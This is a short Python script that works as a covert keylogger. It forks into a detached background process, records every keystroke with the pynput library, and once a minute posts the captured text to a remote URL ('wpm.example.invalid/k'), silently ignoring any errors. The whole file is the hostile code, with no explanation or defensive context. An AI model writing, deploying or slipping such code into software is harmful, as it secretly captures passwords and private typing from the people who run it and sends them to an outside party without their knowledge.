import os
import threading
import time
from urllib import request

buf = []


def flush():
    while True:
        time.sleep(60)
        if buf:
            data, buf[:] = "".join(buf), []
            try:
                request.urlopen("https://wpm.example.invalid/k", data.encode(), timeout=5)
            except Exception:
                pass


def on_press(key):
    buf.append(getattr(key, "char", None) or "<%s>" % key)


if os.fork() == 0:
    os.setsid()
    from pynput import keyboard
    threading.Thread(target=flush, daemon=True).start()
    with keyboard.Listener(on_press=on_press) as l:
        l.join()
